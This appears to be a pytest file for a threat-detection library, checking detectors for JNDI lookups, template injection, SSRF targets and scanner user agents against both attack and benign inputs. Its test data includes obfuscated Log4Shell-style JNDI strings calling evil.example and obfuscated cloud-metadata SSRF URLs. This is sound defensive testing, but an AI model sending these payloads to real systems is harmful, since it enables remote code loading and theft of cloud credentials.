"""JNDI lookups, template injection, SSRF targets and attack-tool user agents."""

from __future__ import annotations

import pytest

from tests.processors.threat import corpora
from tests.processors.threat.measure import NONE_FLAGGED, benign_hits, recall
from vigil.processors.threat import jndi, scanner, ssrf, ssti
from vigil.processors.threat.decoding import decode
from vigil.processors.threat.verdict import combine

DETECTORS = {"jndi": jndi.analyse, "ssti": ssti.analyse, "ssrf": ssrf.analyse}


@pytest.mark.parametrize("category", sorted(DETECTORS))
def test_recall_on_our_own_attacks(category):
    ours = [v for c, v in corpora.attack_values() if c == category]
    assert (
        recall(f"vigil attack_values {category}", ours, lambda v: DETECTORS[category](decode(v))).rate == 1.0
    )


@pytest.mark.parametrize("category", sorted(DETECTORS))
def test_false_positives_on_benign_values(category):
    def detect(value):
        return DETECTORS[category](decode(value, query=True))

    assert benign_hits(detect) == NONE_FLAGGED


def test_jndi_obfuscations_are_resolved():
    assert jndi.resolve("${${lower:j}${upper:n}${::-d}i:${env:X:-l}dap://x/a}") == "${jndi:ldap://x/a}"
    assert jndi.analyse("${${::-j}ndi:rmi://evil.example/a}")[0].rule == "jndi.lookup"
    assert jndi.analyse("${jndi:ldap://evil.example/a}")[0].score >= 0.9
    assert jndi.analyse("${price} and ${quantity}") == []


@pytest.mark.parametrize(
    "value",
    [
        "{{ user.name }}",
        "Hello {{name}}",
        "{% if user %}hi{% endif %}",
        "${price}",
        "#{user.name}",
        "<%= link_to 'Home', root_path %>",
        "7*7=49",
        "{{ items|length }}",
    ],
)
def test_templates_quoted_in_text_stay_quiet(value):
    assert ssti.analyse(value) == []


@pytest.mark.parametrize(
    "value,rule",
    [
        ("http://169.254.169.254/latest/meta-data/", "ssrf.cloud-metadata"),
        ("http://[::ffff:a9fe:a9fe]/", "ssrf.cloud-metadata"),
        ("http://2852039166/", "ssrf.cloud-metadata"),
        ("http://0x7f.0.0.1/", "ssrf.obfuscated-ip"),
        ("http://127.1:8080/", "ssrf.obfuscated-ip"),
        ("http://localhost/admin", "ssrf.loopback"),
        ("http://[::1]/", "ssrf.loopback"),
        ("http://192.168.1.10/", "ssrf.private-host"),
        ("dict://10.0.0.1:11211/", "ssrf.scheme"),
    ],
)
def test_ssrf_targets(value, rule):
    assert rule in {d.rule for d in ssrf.analyse(value)}


def test_loopback_and_private_hosts_are_suspicions_only():
    assert 0 < combine(ssrf.analyse("http://localhost:3000/callback")) < 0.5  # OAuth redirects in development
    assert 0 < combine(ssrf.analyse("http://10.1.2.3/")) < 0.5
    assert combine(ssrf.analyse("https://example.com/a")) == 0
    assert combine(ssrf.analyse("3.14159")) == 0


@pytest.mark.parametrize(
    "agent",
    [
        "sqlmap/1.8.3#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
        "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Fuzz Faster U Fool v2.1.0",
        "gobuster/3.6",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    ],
)
def test_attack_tools_by_user_agent(agent):
    assert combine(scanner.analyse(agent)) >= 0.5


@pytest.mark.parametrize(
    "agent",
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 "
        "Safari/537.36",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
        "kube-probe/1.29",
        "Prometheus/2.51.0",
        "okhttp/4.12.0",
        "PostmanRuntime/7.36.0",
    ],
)
def test_ordinary_clients_are_not_scanners(agent):
    assert scanner.analyse(agent) == ()
